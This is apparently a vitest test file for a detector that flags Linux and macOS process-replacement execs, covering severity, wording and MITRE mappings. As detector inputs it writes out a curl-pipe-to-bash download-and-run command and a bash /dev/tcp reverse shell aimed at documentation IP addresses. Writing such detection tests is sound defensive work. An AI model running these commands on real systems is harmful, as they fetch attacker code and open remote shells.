import { loadFixtures, makeEvent, runFixture, testDetector } from '@tripline/core/testing';
import { describe, expect, it } from 'vitest';
import { splitCommandLine, suspiciousTraits } from '../../internal/text.js';
import { detector, execKind, execSuspicion, execTechniques } from './detector.js';

const fixtures = loadFixtures(new URL('./fixtures', import.meta.url));
const ctx = { options: {}, severity: 'medium' as const };
const exec = (row: Record<string, unknown>) =>
  makeEvent('DeviceProcessEvents', {
    Timestamp: '2025-11-07T06:46:38.299848Z',
    DeviceId: 'd',
    DeviceName: 'h',
    ReportId: 1,
    ActionType: 'ProcessCreated',
    ProcessId: 500,
    InitiatingProcessId: 500,
    InitiatingProcessFileName: 'dash',
    InitiatingProcessFolderPath: '/usr/bin/dash',
    FileName: 'curl',
    FolderPath: '/usr/bin/curl',
    ...row,
  });

describe('defender/exec-process-replacement', () => {
  it('passes its fixtures', async () => {
    await testDetector(detector, fixtures);
  });

  it('uses the agent text for the Defender chain and keeps medium', async () => {
    const result = await runFixture(
      detector,
      fixtures.fires.find((f) => f.name.startsWith('fires.defender-dash-lsof'))!,
    );
    const alert = result.alerts[0]!;
    expect(alert.message.templates).toBe(detector.meta.messages.agent);
    expect(alert.severity).toBe('medium');
    expect(alert.key).toBe('dash -> lsof');
    expect(alert.mitre.map((m) => m.id)).toEqual(['T1059.004']);
    expect(alert.evidence.keyComponents['Known Agent']).toBe(
      'Microsoft Defender for Endpoint (root, effective group mdatp)',
    );
  });

  it('keeps the default text when one exec of the pair is not the agent, even after agent ones', async () => {
    const fixture = fixtures.fires.find((f) => f.name.startsWith('fires.defender-dash-lsof'))!;
    const last = fixture.records.at(-1)!;
    const fields = JSON.parse(String(last.properties.AdditionalFields)) as Record<string, unknown>;
    const foreign = {
      ...last,
      properties: {
        ...last.properties,
        Timestamp: '2025-11-07T07:30:00.000001Z',
        ReportId: 99001,
        ProcessId: 515044,
        InitiatingProcessId: 515044,
        InitiatingProcessParentFileName: 'sshd',
        AdditionalFields: JSON.stringify({
          ...fields,
          InitiatingProcessPosixEffectiveGroup: { Name: 'root', PosixGroupId: 0 },
        }),
      },
    };
    const result = await runFixture(detector, { ...fixture, records: [...fixture.records, foreign] });
    const alert = result.alerts.find((a) => a.key === 'dash -> lsof')!;
    expect(alert.message.templates).toBe(detector.meta.messages.default);
    expect(alert.evidence.keyComponents['Known Agent']).toBeUndefined();
    expect(alert.severity).toBe('medium');
  });

  it('raises to high for download-and-run, /dev/tcp and scratch binaries, not for a plain curl', () => {
    expect(execSuspicion(exec({ InitiatingProcessCommandLine: 'sh -c "curl -s https://example.org/health"' }))).toEqual(
      [],
    );
    expect(
      execSuspicion(exec({ InitiatingProcessCommandLine: 'sh -c "curl -fsSL http://198.51.100.9/i.sh | bash"' }))
        .length,
    ).toBe(1);
    expect(
      execSuspicion(
        exec({
          FileName: 'bash',
          FolderPath: '/usr/bin/bash',
          ProcessCommandLine: 'bash -i >& /dev/tcp/203.0.113.5/443 0>&1',
        }),
      ).length,
    ).toBe(2);
    expect(detector.match!(exec({ FileName: 'x', FolderPath: '/dev/shm/x' }), ctx)).toMatchObject({
      severity: 'high',
      key: 'dash -> x',
    });
    expect(detector.match!(exec({}), ctx)).not.toHaveProperty('severity');
  });

  it('never maps T1055 or T1036.003', () => {
    expect(detector.meta.mitre).toEqual(['T1059.004']);
    expect(detector.meta.mitreNotes).toMatch(/T1055.*T1036\.003/s);
  });

  it('scans adversarial command lines in linear time', () => {
    const inputs = [
      `nc ${' '.repeat(300_000)}`,
      `curl ${'a'.repeat(300_000)}`,
      `mkfifo ${'x '.repeat(150_000)}`,
      `base64 -d ${'| '.repeat(150_000)}`,
      `"${'\\"'.repeat(100_000)}`,
    ];
    const start = performance.now();
    for (const text of inputs) {
      suspiciousTraits(text);
      splitCommandLine(text);
    }
    // Linear is milliseconds; backtracking on 300k characters is minutes. Room for a loaded CI machine.
    expect(performance.now() - start).toBeLessThan(5_000);
  });
});

describe('defender/exec-process-replacement on container, service and macOS hosts', () => {
  const byName = (prefix: string) => {
    const f = [...fixtures.fires, ...fixtures.ignores].find((x) => x.name.startsWith(prefix));
    if (!f) throw new Error(`no fixture ${prefix}`);
    return f;
  };
  const only = async (prefix: string) => {
    const result = await runFixture(detector, byName(prefix));
    expect(result.alerts).toHaveLength(1);
    return result.alerts[0]!;
  };
  const texts = (a: { title: string; description: string; riskAssessment: string }) =>
    `${a.title}\n${a.description}\n${a.riskAssessment}`;

  it('does not alert on container runtimes, service launchers or macOS system components', async () => {
    for (const name of [
      'ignores.container-runtime-handoffs',
      'ignores.service-launchers',
      'ignores.macos-system-component',
    ]) {
      const result = await runFixture(detector, byName(name));
      expect(result.alerts, name).toEqual([]);
      expect(result.summary.eventsAnalyzed, name).toBeGreaterThan(0);
    }
  });

  it('names an interpreter exec as such: low, T1059.006 for Python, no shell in the text', async () => {
    const alert = await only('fires.python-admin-script-grep');
    expect(alert.message.templates).toBe(detector.meta.messages.interpreter);
    expect(alert.severity).toBe('low');
    expect(alert.mitre.map((m) => m.id)).toEqual(['T1059.006']);
    expect(texts(alert)).not.toMatch(/shell/i);
    expect(alert.title).toBe('Interpreter exec: python3.10 → grep');
  });

  it('maps T1059.004 and says shell when a program replaced itself with a shell', async () => {
    const alert = await only('fires.perl-execs-shell');
    expect(alert.message.templates).toBe(detector.meta.messages['into-shell']);
    expect(alert.severity).toBe('medium');
    expect(alert.mitre.map((m) => m.id)).toEqual(['T1059.004']);
    expect(alert.title).toBe('Process replaced by a shell: perl → dash');
  });

  it('maps no technique and says no shell for another program, even under /System when not OS-signed', async () => {
    const alert = await only('fires.macos-system-path-not-os-signed');
    expect(alert.message.templates).toBe(detector.meta.messages.program);
    expect(alert.mitre).toEqual([]);
    expect(texts(alert)).not.toMatch(/shell/i);
  });

  it('still raises a launcher exec that is suspicious in itself, without shell wording', async () => {
    const alert = await only('fires.runtime-handoff-to-scratch-binary');
    expect(alert.message.templates).toBe(detector.meta.messages['suspicious-program']);
    expect(alert.severity).toBe('high');
    expect(alert.mitre).toEqual([]);
    expect(texts(alert)).not.toMatch(/shell/i);
    expect(texts(alert)).toContain('container runtime');
  });

  it('keeps the shell cases as they were: T1059.004, shell wording, medium', async () => {
    const alert = await only('fires.cron-shell-exec');
    expect(alert.message.templates).toBe(detector.meta.messages.default);
    expect(alert.mitre.map((m) => m.id)).toEqual(['T1059.004']);
    expect(alert.severity).toBe('medium');
  });

  it('classifies images by name, case-insensitively, with bounded patterns', () => {
    expect(execKind('dash', 'lsof')).toBe('shell');
    expect(execKind('python3', 'bash')).toBe('into-shell');
    expect(execKind('Python3.12', 'grep')).toBe('interpreter');
    expect(execKind('node', 'git')).toBe('interpreter');
    expect(execKind('nice', 'rsync')).toBe('wrapper');
    expect(execKind('kworkerd', 'curl')).toBe('program');
    expect(execTechniques('node', 'git')).toEqual(['T1059.007']);
    expect(execTechniques('lua5.4', 'ls')).toEqual(['T1059.011']);
    expect(execTechniques('perl', 'ls')).toEqual(['T1059']);
    expect(execTechniques('sudo', 'apt')).toEqual([]);
    const start = performance.now();
    execKind(`python${'3.'.repeat(50_000)}`, 'x');
    expect(performance.now() - start).toBeLessThan(1_000);
  });
});
